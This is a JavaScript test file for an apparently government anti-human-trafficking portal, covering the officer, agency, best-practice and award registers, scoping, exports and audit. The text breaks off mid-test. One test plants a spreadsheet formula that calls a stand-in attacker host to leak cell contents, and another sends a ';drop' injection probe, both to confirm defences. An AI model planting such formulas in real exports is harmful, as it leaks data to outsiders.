// The registers through the real binary, on the nodal officers' directory:
// the schema, validation, terms (a new officer closes the previous term),
// edits with versions and history, scoping by State, what the public and
// viewers see, search, sorting, paging, CSV / XLSX / PDF exports, audit.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { Server, Client, assertError, assertStatus, makePdf, uploadAttachment } from './lib.mjs';

const OD = 21; // Odisha
const WB = 19; // West Bengal
let srv, cell, admin, viewer, od, odDistrict, wb;

const officer = (extra = {}) => ({
  name: 'Shri A. K. Mishra, IPS', rank: 'IGP', designation: 'Inspector General of Police, CID (CAW)',
  office: 'CID Crime Branch, Odisha', address: 'Buxi Bazar, Cuttack 753001', phone: '0671-2304123',
  mobile: '94370 12345', email: 'igcaw@odishapolice.gov.in', ...extra,
});

before(async () => {
  srv = await Server.start({
    setup: (s) => {
      s.addUser('reg-cell', { role: 'cell' });
      s.addUser('reg-admin', { role: 'admin' });
      s.addUser('reg-viewer', { role: 'viewer' });
      s.addUser('reg-od', { role: 'state', jurisdiction: `state:${OD}` });
      s.addUser('reg-wb', { role: 'state', jurisdiction: `state:${WB}` });
    },
  });
  const d = await srv.request('GET', `/api/v1/states/${OD}/districts`);
  srv.addUser('reg-od-district', { role: 'district', jurisdiction: `district:${d.json.items[0].lgd}` });
  cell = await Client.signedIn(srv, 'reg-cell');
  admin = await Client.signedIn(srv, 'reg-admin');
  viewer = await Client.signedIn(srv, 'reg-viewer');
  od = await Client.signedIn(srv, 'reg-od');
  odDistrict = await Client.signedIn(srv, 'reg-od-district');
  wb = await Client.signedIn(srv, 'reg-wb');
});
after(async () => { if (srv) await srv.stop(); });

describe('schema', () => {
  it('describes the officers register for forms', async () => {
    const r = await srv.request('GET', '/api/v1/registers/officers');
    assertStatus(r, 200);
    assert.equal(r.json.name, 'officers');
    assert.equal(r.json.terms, true);
    const f = Object.fromEntries(r.json.fields.map((x) => [x.name, x]));
    assert.equal(f.name.required, true);
    assert.equal(f.email.type, 'email');
    assert.equal(f.mobile.public, false);
    assert.equal(f.name.max_length, 120);
    const all = await srv.request('GET', '/api/v1/registers');
    assert.ok(all.json.items.some((t) => t.name === 'officers'));
    assertError(await srv.request('GET', '/api/v1/registers/nothing'), 404);
  });
});

describe('validation', () => {
  const cases = [
    [{ name: undefined }, 'name', /Name is required/],
    [{ designation: '   ' }, 'designation', /Designation is required/],
    [{ name: 'x'.repeat(121) }, 'name', /too long \(at most 120 bytes; this is 121\)/],
    [{ email: 'not-an-address' }, 'email', /e-mail address/],
    [{ phone: '12345' }, 'phone', /telephone number/],
    [{ mobile: 'call me' }, 'mobile', /telephone number/],
    [{ name: 'bad\u0007name' }, 'name', /control characters/],
    [{ name: 42 }, 'name', /must be text/],
    [{ nickname: 'x' }, 'nickname', /no field "nickname"/],
  ];
  for (const [change, field, message] of cases) {
    it(`refuses ${JSON.stringify(change).slice(0, 60)} naming ${field}`, async () => {
      const body = { ...officer(change), state_lgd: WB };
      for (const k of Object.keys(change)) if (change[k] === undefined) delete body[k];
      const e = assertError(await cell.post('/api/v1/officers', body), 400, 'request.invalid');
      assert.equal(e.field, field);
      assert.match(e.message, message);
    });
  }
  it('refuses a bad State, a missing State for the Cell, and bad dates', async () => {
    assert.equal(assertError(await cell.post('/api/v1/officers', { ...officer(), state_lgd: 999 }), 400).field, 'state_lgd');
    assert.equal(assertError(await cell.post('/api/v1/officers', officer()), 400).field, 'state_lgd');
    for (const from of ['2026-02-30', '29.11.2026', '2026-1-5', 20260101]) {
      const e = assertError(await cell.post('/api/v1/officers', { ...officer(), state_lgd: WB, from }), 400);
      assert.equal(e.field, 'from', `from ${from}`);
    }
    const list = await cell.get(`/api/v1/officers?state=${WB}`);
    assert.equal(list.json.total, 0, 'nothing was stored by refused requests');
  });
  it('trims text and stores an empty optional field as absent', async () => {
    const r = await cell.post('/api/v1/officers', { state_lgd: WB, name: '  Shri B. Sen  ', designation: 'ADGP, CID', fax: '', from: '2025-06-01' });
    assertStatus(r, 201);
    assert.equal(r.json.name, 'Shri B. Sen');
    assert.equal(r.json.fax, null);
  });
});

describe('terms: one nodal officer per State at a time', () => {
  let first, second;
  it('appoints, then a successor closes the previous term without overwriting it', async () => {
    let r = await cell.post('/api/v1/officers', { ...officer(), state_lgd: OD, from: '2024-04-01' });
    assertStatus(r, 201);
    first = r.json;
    assert.equal(first.state, 'Odisha');
    assert.equal(first.current, true);
    assert.equal(first.to, null);
    r = await cell.post('/api/v1/officers', { ...officer({ name: 'Smt. R. Das, IPS', mobile: '94370 99999' }), state_lgd: OD, from: '2026-01-15' });
    assertStatus(r, 201);
    second = r.json;
    assert.equal(second.ended_term, first.id);
    const old = await cell.get(`/api/v1/officers/${first.id}`);
    assert.equal(old.json.to, '2026-01-15');
    assert.equal(old.json.current, false);
    assert.equal(old.json.name, 'Shri A. K. Mishra, IPS', 'the earlier officer is kept as they were');
    const now = await cell.get(`/api/v1/officers?state=${OD}`);
    assert.deepEqual(now.json.items.map((x) => x.id), [second.id]);
    const all = await cell.get(`/api/v1/officers?state=${OD}&current=0&sort=-from`);
    assert.deepEqual(all.json.items.map((x) => x.id), [second.id, first.id]);
    const h = await cell.get(`/api/v1/officers/${first.id}/history`);
    assertStatus(h, 200);
    assert.equal(h.json.items.length, 1);
    assert.equal(h.json.items[0].to, null);
    assert.match(h.json.items[0].reason, /Term ended/);
    assert.equal(h.json.items[0].replaced_by, 'reg-cell');
  });
  it('refuses a successor whose term would begin before the present one', async () => {
    assertError(await cell.post('/api/v1/officers', { ...officer(), state_lgd: OD, from: '2025-12-31' }), 409, 'term.overlap');
    const now = await cell.get(`/api/v1/officers?state=${OD}`);
    assert.deepEqual(now.json.items.map((x) => x.id), [second.id], 'the present officer stays');
  });
  it('keeps a closed term read-only', async () => {
    assertError(await cell.patch(`/api/v1/officers/${first.id}`, { phone: '0671-2300000' }), 409, 'term.closed');
    assertError(await cell.post(`/api/v1/officers/${first.id}/end`, {}), 409, 'term.closed');
  });
  it('ends a term: the post is vacant, then a new officer fills it', async () => {
    const r = await cell.post('/api/v1/officers', { state_lgd: 1, name: 'Shri Vacancy Test', designation: 'DIG', from: '2025-01-01' });
    assertStatus(r, 201);
    assertError(await cell.post(`/api/v1/officers/${r.json.id}/end`, { to: '2024-12-31' }), 400);
    const e = await cell.post(`/api/v1/officers/${r.json.id}/end`, { to: '2026-03-31', reason: 'Transferred' });
    assertStatus(e, 200);
    assert.equal(e.json.to, '2026-03-31');
    assert.equal((await cell.get('/api/v1/officers?state=1')).json.total, 0);
    const n = await cell.post('/api/v1/officers', { state_lgd: 1, name: 'Shri Next', designation: 'DIG', from: '2026-04-10' });
    assertStatus(n, 201);
    assert.equal(n.json.ended_term, undefined);
  });
});

describe('edits by the State, with versions and history', () => {
  let rec;
  before(async () => {
    const r = await od.get('/api/v1/officers');
    rec = r.json.items[0];
  });
  it('a State user edits its own officer; the change is a new version with its reason kept', async () => {
    const r = await od.patch(`/api/v1/officers/${rec.id}`, { phone: '0671 2305 111', version: rec.version, reason: 'New exchange number' });
    assertStatus(r, 200);
    assert.equal(r.json.phone, '0671 2305 111');
    assert.equal(r.json.version, rec.version + 1);
    const h = await od.get(`/api/v1/officers/${rec.id}/history`);
    assert.equal(h.json.items[0].version, rec.version);
    assert.equal(h.json.items[0].fields.phone, '0671-2304123');
    assert.equal(h.json.items[0].reason, 'New exchange number');
    assert.equal(h.json.items[0].replaced_by, 'reg-od');
  });
  it('refuses an edit made from a stale copy', async () => {
    assertError(await od.patch(`/api/v1/officers/${rec.id}`, { phone: '0671 2305 222', version: rec.version }), 409, 'record.changed');
  });
  it('an unchanged edit makes no version', async () => {
    const cur = (await od.get(`/api/v1/officers/${rec.id}`)).json;
    const r = await od.patch(`/api/v1/officers/${rec.id}`, { phone: cur.phone });
    assert.equal(r.json.version, cur.version);
  });
  it('clears an optional field with null, never a required one', async () => {
    const r = await od.patch(`/api/v1/officers/${rec.id}`, { fax: null, office: null });
    assertStatus(r, 200);
    assert.equal(r.json.office, null);
    assert.equal(assertError(await od.patch(`/api/v1/officers/${rec.id}`, { name: null }), 400).field, 'name');
  });
  it('refuses moving a record to another State or changing its term by edit', async () => {
    assert.equal(assertError(await cell.patch(`/api/v1/officers/${rec.id}`, { state_lgd: WB }), 400).field, 'state_lgd');
    assert.equal(assertError(await cell.patch(`/api/v1/officers/${rec.id}`, { from: '2020-01-01' }), 400).field, 'from');
  });
  it('audits the changes by field name, never by value', async () => {
    const a = await admin.get('/api/v1/audit?limit=200');
    assertStatus(a, 200);
    const upd = a.json.items.filter((x) => x.action === 'register.update' && x.object_id === String(rec.id));
    assert.ok(upd.length >= 2, 'each register.update audited');
    const detail = JSON.stringify(upd.map((x) => x.detail));
    assert.match(detail, /"phone"/);
    assert.match(detail, /"office"/);
    assert.doesNotMatch(detail, /2305|CID Crime/);
    assert.ok(a.json.items.some((x) => x.action === 'register.create' && x.object_type === 'officers'));
  });
});

describe('scoping', () => {
  let wbRec, odRec;
  before(async () => {
    wbRec = (await cell.get(`/api/v1/officers?state=${WB}`)).json.items[0];
    odRec = (await cell.get(`/api/v1/officers?state=${OD}`)).json.items[0];
  });
  it('a State user adds for its own State by default and never for another', async () => {
    const e = assertError(await od.post('/api/v1/officers', { ...officer(), state_lgd: WB }), 403, 'scope.state');
    assert.match(e.message, /your own State/);
    const r = await wb.post('/api/v1/officers', { name: 'Shri C. Roy', designation: 'IGP', from: '2026-02-01' });
    assertStatus(r, 201);
    assert.equal(r.json.state_lgd, WB);
    wbRec = r.json;
  });
  it('a State user neither reads nor changes another State\'s officer', async () => {
    assertError(await od.get(`/api/v1/officers/${wbRec.id}`), 404);
    assertError(await od.patch(`/api/v1/officers/${wbRec.id}`, { phone: '033-22141234' }), 404);
    assertError(await od.post(`/api/v1/officers/${wbRec.id}/end`, {}), 404);
    assertError(await od.get(`/api/v1/officers/${wbRec.id}/history`), 404);
    const list = await od.get('/api/v1/officers?current=0&limit=500');
    assert.ok(list.json.items.every((x) => x.state_lgd === OD));
    assert.equal(list.json.total, list.json.items.length);
    const other = await od.get(`/api/v1/officers?state=${WB}`);
    assert.equal(other.json.total, 0);
  });
  it('a district user reads its State\'s officer, with the mobile, and cannot write', async () => {
    const r = await odDistrict.get(`/api/v1/officers/${odRec.id}`);
    assertStatus(r, 200);
    assert.ok('mobile' in r.json);
    assertError(await odDistrict.get(`/api/v1/officers/${wbRec.id}`), 404);
    assertError(await odDistrict.patch(`/api/v1/officers/${odRec.id}`, { phone: '0671-2300000' }), 403);
  });
});

describe('what the public and viewers see', () => {
  it('the public directory: current officers of every State, public fields only', async () => {
    const r = await srv.request('GET', '/api/v1/officers?limit=100');
    assertStatus(r, 200);
    assert.ok(r.json.total >= 3);
    for (const x of r.json.items) {
      assert.equal(x.current, true);
      assert.ok(!('mobile' in x), 'no mobile for the public');
      assert.ok(!('version' in x));
    }
    assert.doesNotMatch(r.text, /94370/);
    const states = r.json.items.map((x) => x.state);
    assert.deepEqual(states, [...states].sort(), 'sorted by State');
  });
  it('the public cannot open a closed term or its history, nor write', async () => {
    const closed = (await cell.get(`/api/v1/officers?state=${OD}&current=0&sort=from`)).json.items[0];
    assert.equal(closed.current, false);
    assertError(await srv.request('GET', `/api/v1/officers/${closed.id}`), 404);
    assertError(await srv.request('GET', `/api/v1/officers/${closed.id}/history`), 401);
    assertError(await srv.request('POST', '/api/v1/officers', { json: officer() }), 401);
  });
  it('a viewer reads public fields across States, no mobile, no history', async () => {
    const r = await viewer.get('/api/v1/officers?current=0&limit=100');
    assertStatus(r, 200);
    assert.ok(r.json.items.some((x) => x.current === false), 'a national viewer sees earlier terms');
    assert.ok(r.json.items.every((x) => !('mobile' in x)));
    assertError(await viewer.get(`/api/v1/officers/${r.json.items[0].id}/history`), 403);
  });
});

describe('search, sort, paging', () => {
  it('finds by name, designation and State name, whatever the case', async () => {
    for (const q of ['das', 'DAS', 'cid (caw', 'odisha', 'west BENGAL']) {
      const r = await cell.get(`/api/v1/officers?q=${encodeURIComponent(q)}`);
      assertStatus(r, 200);
      assert.ok(r.json.total >= 1, `q=${q}`);
    }
    const none = await cell.get(`/api/v1/officers?q=${encodeURIComponent('100%_\\')}`);
    assertStatus(none, 200);
    assert.equal(none.json.total, 0, 'LIKE wildcards are plain characters');
    const mobile = await srv.request('GET', '/api/v1/officers?q=94370');
    assert.equal(mobile.json.total, 0, 'the mobile is not searchable');
  });
  it('sorts by a sortable field either way, refuses others', async () => {
    const a = (await cell.get('/api/v1/officers?sort=name')).json.items.map((x) => x.name.toLowerCase());
    assert.deepEqual(a, [...a].sort());
    const d = (await cell.get('/api/v1/officers?sort=-name')).json.items.map((x) => x.name.toLowerCase());
    assert.deepEqual(d, [...d].sort().reverse());
    assert.equal(assertError(await cell.get('/api/v1/officers?sort=mobile'), 400).field, 'sort');
    assert.equal(assertError(await cell.get('/api/v1/officers?sort=;drop'), 400).field, 'sort');
  });
  it('pages with a total', async () => {
    const all = await cell.get('/api/v1/officers?current=0&limit=500');
    const p1 = await cell.get('/api/v1/officers?current=0&limit=2&offset=0');
    const p2 = await cell.get('/api/v1/officers?current=0&limit=2&offset=2');
    assert.equal(p1.json.total, all.json.total);
    assert.deepEqual([...p1.json.items, ...p2.json.items].map((x) => x.id), all.json.items.slice(0, 4).map((x) => x.id));
    assertError(await cell.get('/api/v1/officers?limit=0'), 400);
    assertError(await cell.get('/api/v1/officers?state=abc'), 400);
    assertError(await cell.get('/api/v1/officers?current=2'), 400);
  });
});

describe('exports', () => {
  it('CSV: a header of labels, UTF-8 with BOM, quoted, the same rows as the list', async () => {
    await cell.post('/api/v1/officers', { state_lgd: 2, name: 'Shri "Quoted", Name', designation: 'SP, CID', from: '2026-01-01' });
    const r = await cell.get('/api/v1/officers?format=csv&current=0');
    assertStatus(r, 200);
    assert.match(r.headers.get('content-type'), /^text\/csv/);
    assert.match(r.headers.get('content-disposition'), /attachment; filename="officers-\d{4}-\d{2}-\d{2}\.csv"/);
    const bytes = Buffer.from(await (await fetch(`${srv.base}/api/v1/officers?format=csv`)).arrayBuffer());
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const lines = r.text.replace(/^\uFEFF/, '').trim().split('\r\n');
    assert.match(lines[0], /^"ID","State\/UT","Name","Rank","Designation"/);
    assert.ok(lines[0].includes('"Mobile"'), 'the Cell\'s CSV has the mobile');
    assert.ok(r.text.includes('"Shri ""Quoted"", Name"'), 'quotes doubled, commas kept inside quotes');
    const list = await cell.get('/api/v1/officers?current=0&limit=500');
    assert.equal(lines.length - 1, list.json.total);
  });
  it('the public CSV has no mobile column', async () => {
    const r = await srv.request('GET', '/api/v1/officers?format=csv');
    assertStatus(r, 200);
    assert.ok(!r.text.includes('Mobile'));
    assert.doesNotMatch(r.text, /94370/);
  });
  it('XLSX is a workbook', async () => {
    const res = await fetch(`${srv.base}/api/v1/officers?format=xlsx`);
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const b = Buffer.from(await res.arrayBuffer());
    assert.equal(b.subarray(0, 2).toString(), 'PK');
    assert.ok(b.includes(Buffer.from('xl/worksheets/sheet1.xml')));
  });
  it('the printed PDF is dated, titled, and public even when the Cell prints it', async () => {
    const res = await fetch(`${srv.base}/api/v1/officers?format=pdf`, { headers: cell.headersFor('GET') });
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'application/pdf');
    const pdf = Buffer.from(await res.arrayBuffer());
    assert.equal(pdf.subarray(0, 5).toString(), '%PDF-');
    const t = spawnSync('pdftotext', ['-layout', '-', '-'], { input: pdf, encoding: 'utf8' });
    assert.equal(t.status, 0, t.stderr);
    assert.match(t.stdout, /List of Nodal Officers for Anti Human Trafficking/);
    assert.match(t.stdout, /as on \d{2}\.\d{2}\.\d{4}/);
    assert.match(t.stdout, /Smt\. R\. Das, IPS/);
    assert.doesNotMatch(t.stdout, /Mishra/, 'only current officers');
    assert.doesNotMatch(t.stdout, /94370/, 'no mobile numbers in the published list');
    // every State/UT is on the list, those without an officer as vacant
    assert.match(t.stdout, /Bihar\s+Vacant/);
    assert.equal((t.stdout.match(/Vacant/g) || []).length, 36 - (await srv.request('GET', '/api/v1/officers?limit=100')).json.total);
  });
  it('refuses an unknown format; audits the Cell\'s exports', async () => {
    assert.equal(assertError(await cell.get('/api/v1/officers?format=doc'), 400).field, 'format');
    const a = await admin.get('/api/v1/audit?limit=200');
    assert.ok(a.json.items.some((x) => x.action === 'register.export' && x.login === 'reg-cell'));
  });
});

describe('idempotency', () => {
  it('a retried appointment with the same key makes one record', async () => {
    const body = { state_lgd: 3, name: 'Shri Retry', designation: 'IGP', from: '2026-05-05' };
    const key = `reg-${Date.now()}`;
    const a = await cell.post('/api/v1/officers', body, { headers: { 'Idempotency-Key': key } });
    const b = await cell.post('/api/v1/officers', body, { headers: { 'Idempotency-Key': key } });
    assertStatus(a, 201);
    assertStatus(b, 201);
    assert.equal(b.json.id, a.json.id);
    assert.equal(b.headers.get('idempotent-replay'), 'true');
    assert.equal((await cell.get('/api/v1/officers?state=3&current=0')).json.total, 1);
  });
});

describe('placement agencies: a register without terms', () => {
  const agency = (extra = {}) => ({
    name: 'Sunrise Domestic Help Placement Agency', registration_no: 'OD/PPA/2024/117',
    address: 'Plot 12, Saheed Nagar, Bhubaneswar 751007', owners: 'Smt. K. Rao, Plot 4, Nayapalli',
    licence_valid_from: '2024-01-01', licence_valid_to: day(20), status: 'registered', ...extra,
  });
  function day(n) { return new Date(Date.now() + 19800e3 + n * 86400e3).toISOString().slice(0, 10); }
  let a;
  it('a State registers an agency of its own State', async () => {
    const r = await od.post('/api/v1/agencies', agency());
    assertStatus(r, 201);
    a = r.json;
    assert.equal(a.state_lgd, OD);
    assert.ok(!('from' in a), 'no terms');
    assert.equal(assertError(await od.post('/api/v1/agencies', agency({ status: 'closed' })), 400).field, 'status');
    assert.equal(assertError(await od.post('/api/v1/agencies', agency({ licence_valid_to: undefined })), 400).field, 'licence_valid_to');
    await cell.post('/api/v1/agencies', agency({ state_lgd: WB, name: 'Kolkata Care Agency', registration_no: 'WB/17/889', licence_valid_to: day(200) }));
  });
  it('a change of status needs a reason, kept in the history', async () => {
    const e = assertError(await cell.patch(`/api/v1/agencies/${a.id}`, { status: 'suspended' }), 400);
    assert.equal(e.field, 'reason');
    const r = await cell.patch(`/api/v1/agencies/${a.id}`, { status: 'suspended', reason: 'Complaint of 12.09: placed a minor as domestic help' });
    assertStatus(r, 200);
    assert.equal(r.json.status, 'suspended');
    const h = await cell.get(`/api/v1/agencies/${a.id}/history`);
    assert.equal(h.json.items[0].fields.status, 'registered');
    assert.match(h.json.items[0].reason, /placed a minor/);
    // other fields change without one
    assertStatus(await od.patch(`/api/v1/agencies/${a.id}`, { phone: '0674-2550011' }), 200);
  });
  it('search by name or number across States; filter by status; licences lapsing in 30 days', async () => {
    assert.equal((await cell.get('/api/v1/agencies?q=od/ppa/2024')).json.total, 1);
    assert.equal((await cell.get('/api/v1/agencies?q=kolkata')).json.total, 1);
    assert.equal((await cell.get('/api/v1/agencies?status=suspended')).json.items[0].id, a.id);
    assert.equal((await cell.get('/api/v1/agencies?status=blacklisted')).json.total, 0);
    const lapsing = await cell.get('/api/v1/agencies?licence_valid_to_within=30');
    assert.deepEqual(lapsing.json.items.map((x) => x.id), [a.id]);
    assert.equal((await cell.get(`/api/v1/agencies?licence_valid_to_before=${day(365)}&licence_valid_to_from=${day(100)}`)).json.total, 1);
    assert.equal(assertError(await cell.get('/api/v1/agencies?licence_valid_to_within=x'), 400).field, 'licence_valid_to_within');
  });
  it('keeps what the public may not see out of its sorts and filters, and formulas out of CSV cells', async () => {
    assertError(await srv.request('GET', '/api/v1/agencies?sort=-updated'), 400);
    assertStatus(await cell.get('/api/v1/agencies?sort=-updated'), 200);
    const f = await cell.post('/api/v1/agencies', agency({ state_lgd: OD, name: '=HYPERLINK("http://evil.example/?"&A3,"x")', registration_no: 'X/1' }));
    assertStatus(f, 201);
    const csv = await cell.get('/api/v1/agencies?format=csv');
    assert.ok(csv.text.includes('"\'=HYPERLINK(""http://evil.example/?""&A3,""x"")"'), 'a formula is written as text');
    assert.equal(assertError(await cell.post('/api/v1/agencies', { ...agency(), state_lgd: OD, ['x'.repeat(200)]: 1 }), 400).field, 'body');
    assertError(await cell.patch(`/api/v1/agencies/${f.json.id}`, { phone: '0674-2550012', version: '1' }), 400);
  });
  it('the public checks an agency; owners and complaints are not public', async () => {
    const r = await srv.request('GET', '/api/v1/agencies?q=sunrise');
    assertStatus(r, 200);
    assert.equal(r.json.items[0].status, 'suspended');
    assert.ok(!('owners' in r.json.items[0]));
    assert.doesNotMatch(r.text, /K\. Rao/);
    assert.equal((await srv.request('GET', '/api/v1/agencies?q=nayapalli')).json.total, 0, 'the public cannot search by owners');
    assert.equal((await od.get(`/api/v1/agencies?state=${WB}`)).json.total, 0);
  });
});

describe('best practices: submitted by a State, reviewed and published by the Cell', () => {
  const practice = {
    title: 'Village vigilance committees in Ganjam', theme: 'prevention', districts: 'Ganjam',
    period: 'April 2024 – March 2025', problem: 'Girls recruited for spinning mills in Tamil Nadu.',
    action: 'Vigilance committees in 120 villages, trained by the AHTU, watch for labour agents.',
    results: '46 girls stopped from leaving; 9 agents arrested.', contact: 'SP, Ganjam',
  };
  let p;
  it('the schema names the fields only the review sets, and what a record goes by', async () => {
    const r = await srv.request('GET', '/api/v1/registers/practices');
    assertStatus(r, 200);
    const byReview = r.json.fields.filter((f) => f.by_review).map((f) => f.name).sort();
    assert.deepEqual(byReview, ['review_comments', 'status']);
    assert.equal(r.json.title_field, 'title');
    assert.equal((await srv.request('GET', '/api/v1/registers/nominations')).json.title_field, 'officer');
    assert.equal((await srv.request('GET', '/api/v1/registers/officers')).json.fields.some((f) => f.by_review), false);
  });
  it('a State drafts a practice; the status is the review\'s, not the State\'s', async () => {
    assert.equal(assertError(await od.post('/api/v1/practices', { ...practice, status: 'published' }), 400).field, 'status');
    const r = await od.post('/api/v1/practices', practice);
    assertStatus(r, 201);
    p = r.json;
    assert.equal(p.status, 'draft');
    assertError(await cell.post('/api/v1/practices', practice), 403);
    assertStatus(await od.patch(`/api/v1/practices/${p.id}`, { results: '46 girls stopped; 9 agents arrested; 2 convicted.' }), 200);
    // its supporting papers, while it is a draft
    assertStatus(await uploadAttachment(srv, od, 'practices', p.id, makePdf(['Order forming the committees']), { filename: 'order.pdf' }), 201);
    assertError(await uploadAttachment(srv, wb, 'practices', p.id, makePdf(['x'])), 404);
    assertError(await uploadAttachment(srv, od, 'officers', 1, makePdf(['x'])), 400);
  });
  it('nothing but the State\'s submission moves a draft; a submitted one is locked', async () => {
    assertError(await cell.post(`/api/v1/practices/${p.id}/accept`, {}), 409, 'workflow.not_allowed');
    assertError(await cell.post(`/api/v1/practices/${p.id}/publish`, {}), 409, 'workflow.not_allowed');
    let r = await od.post(`/api/v1/practices/${p.id}/submit`, {});
    assertStatus(r, 200);
    assert.equal(r.json.status, 'submitted');
    assertError(await od.patch(`/api/v1/practices/${p.id}`, { period: '2024-25' }), 409, 'record.locked');
    assertError(await uploadAttachment(srv, od, 'practices', p.id, makePdf(['late'])), 409, 'record.locked');
    assert.equal((await cell.get(`/api/v1/attachments?owner_type=practices&owner_id=${p.id}`)).json.items.length, 1);
    assertError(await od.post(`/api/v1/practices/${p.id}/accept`, {}), 403);
    assertError(await wb.post(`/api/v1/practices/${p.id}/submit`, {}), 404);
  });
  it('the Cell returns it with comments; the State mends and submits again', async () => {
    assert.equal(assertError(await cell.post(`/api/v1/practices/${p.id}/return`, {}), 400).field, 'comment');
    let r = await cell.post(`/api/v1/practices/${p.id}/return`, { comment: 'Add the conviction figures by year.' });
    assert.equal(r.json.status, 'returned');
    assert.equal(r.json.review_comments, 'Add the conviction figures by year.');
    assertStatus(await od.patch(`/api/v1/practices/${p.id}`, { results: '2024: 1 conviction; 2025: 1 conviction.' }), 200);
    assertError(await od.patch(`/api/v1/practices/${p.id}`, { review_comments: 'done' }), 400);
    r = await od.post(`/api/v1/practices/${p.id}/submit`, {});
    assert.equal(r.json.status, 'submitted');
  });
  it('not public until published; then found on the portal by its text', async () => {
    assertError(await srv.request('GET', `/api/v1/practices/${p.id}`), 404);
    assert.equal((await srv.request('GET', '/api/v1/practices?q=ganjam')).json.total, 0);
    assertError(await srv.request('GET', '/api/v1/practices?status=submitted'), 400);
    assertStatus(await cell.post(`/api/v1/practices/${p.id}/accept`, {}), 200);
    assertError(await srv.request('GET', `/api/v1/practices/${p.id}`), 404); // accepted, not yet published
    const r = await cell.post(`/api/v1/practices/${p.id}/publish`, {});
    assert.equal(r.json.status, 'published');
    const pub = await srv.request('GET', '/api/v1/practices?q=spinning%20mills');
    assert.deepEqual(pub.json.items.map((x) => x.id), [p.id]);
    assert.ok(!('review_comments' in pub.json.items[0]), 'the Cell\'s comments are not public');
    assertStatus(await srv.request('GET', `/api/v1/practices/${p.id}`), 200);
    const h = await cell.get(`/api/v1/practices/${p.id}/history`);
    // newest first: before publishing, accepting, submitting again, the State's mend, returning
    assert.deepEqual(h.json.items.map((x) => x.fields.status).slice(0, 5), ['accepted', 'submitted', 'returned', 'returned', 'submitted']);
  });
  it('a rejected practice stays rejected', async () => {
    const r = await wb.post('/api/v1/practices', { ...practice, title: 'Rejected practice', districts: 'Kolkata' });
    await wb.post(`/api/v1/practices/${r.json.id}/submit`, {});
    assertStatus(await cell.post(`/api/v1/practices/${r.json.id}/reject`, { comment: 'Not a practice of the police.' }), 200);
    for (const step of ['submit', 'accept', 'publish', 'return']) {
      const c = step === 'submit' ? wb : cell;
      assertError(await c.post(`/api/v1/practices/${r.json.id}/${step}`, { comment: 'x' }), 409, 'workflow.not_allowed');
    }
  });
});

describe('the compendium', () => {
  it('is made from the published practices, straight into the library as the new version', async () => {
    const before = await srv.request('GET', '/api/v1/documents?category=compendium');
    const r = await cell.post('/api/v1/practices/compendium', {});
    if (r.status === 409) assert.fail(`no published practice: ${r.text}`);
    assertStatus(r, 201);
    const doc = r.json.document;
    assert.equal(doc.category, 'compendium');
    assert.equal(doc.group, 'Compendium on Best Practices on Anti Human Trafficking by Law Enforcement Agencies');
    assert.match(doc.title, /^Compendium of Best Practices on Anti Human Trafficking \(\d{2}\.\d{2}\.\d{4}\)$/);
    assert.equal(r.json.practices, 1);
    const prev = before.json.items.find((d) => d.category === 'compendium');
    if (prev) assert.equal(doc.supersedes_id, prev.id, 'the new version of the compendium');
    const file = await fetch(`${srv.base}/api/v1/documents/${doc.id}/file`);
    assert.equal(file.status, 200);
    const pdf = Buffer.from(await file.arrayBuffer());
    const t = spawnSync('pdftotext', ['-', '-'], { input: pdf, encoding: 'utf8' });
    assert.match(t.stdout, /Contents by State\/UT/);
    assert.match(t.stdout, /Contents by theme/);
    assert.match(t.stdout, /Village vigilance committees in Ganjam/);
    assert.match(t.stdout, /What was done/);
    assert.doesNotMatch(t.stdout, /Rejected practice/);
    assert.doesNotMatch(t.stdout, /conviction figures by year/, 'the Cell\'s comments stay out');
    // made again: the next version, the one before no longer the latest
    const again = await cell.post('/api/v1/practices/compendium', {});
    assertStatus(again, 201);
    assert.equal(again.json.document.supersedes_id, doc.id);
    const list = await srv.request('GET', '/api/v1/documents?category=compendium');
    assert.deepEqual(list.json.items.map((d) => d.id), [again.json.document.id]);
    assertError(await od.post('/api/v1/practices/compendium', {}), 403);
  });
});

describe('awards: a call, nominations by States, the Cell\'s decision, awardees published', () => {
  let call, nom, other;
  it('the Cell calls for nominations; a call belongs to no State and everyone reads it', async () => {
    assertError(await od.post('/api/v1/award-calls', { year: 2026, title: 'x', last_date: '2026-12-31', status: 'open' }), 403);
    assert.equal(assertError(await cell.post('/api/v1/award-calls', { state_lgd: OD, year: 2026, title: 'x', last_date: '2026-12-31', status: 'open' }), 400).field, 'state_lgd');
    const r = await cell.post('/api/v1/award-calls', { year: 2026, title: 'Award for outstanding work against human trafficking',
      description: 'Officers of any rank of the State police and AHTUs.', last_date: '2026-12-31', status: 'open' });
    assertStatus(r, 201);
    call = r.json;
    assert.equal(call.state_lgd, null);
    assert.equal((await od.get(`/api/v1/award-calls/${call.id}`)).status, 200, 'a State reads the Cell\'s call');
    assert.equal((await srv.request('GET', '/api/v1/award-calls?year=2026')).json.total, 1);
    assert.equal(assertError(await cell.post('/api/v1/award-calls', { year: 1999, title: 'x', last_date: '2026-12-31', status: 'open' }), 400).field, 'year');
  });
  it('a State nominates its officers; the Cell shortlists and decides', async () => {
    const base = { year: 2026, award: call.title, rank: 'Inspector', unit: 'AHTU Ganjam',
      citation: 'Rescued 64 children from spinning mills; 12 traffickers convicted.', evidence: 'FIR 112/2025 Berhampur; judgment of 04.08.2026.' };
    let r = await od.post('/api/v1/nominations', { ...base, officer: 'Smt. P. Nayak' });
    assertStatus(r, 201);
    nom = r.json;
    assert.equal(nom.status, 'draft');
    other = (await od.post('/api/v1/nominations', { ...base, officer: 'Shri R. Sahu' })).json;
    for (const x of [nom, other]) assertStatus(await od.post(`/api/v1/nominations/${x.id}/submit`, {}), 200);
    assertError(await cell.post(`/api/v1/nominations/${nom.id}/award`, {}), 409, 'workflow.not_allowed');
    assertStatus(await cell.post(`/api/v1/nominations/${nom.id}/shortlist`, {}), 200);
    assertError(await od.post(`/api/v1/nominations/${nom.id}/award`, {}), 403);
    r = await cell.post(`/api/v1/nominations/${nom.id}/award`, {});
    assert.equal(r.json.status, 'awarded');
    assert.equal(assertError(await cell.post(`/api/v1/nominations/${other.id}/decline`, {}), 400).field, 'comment');
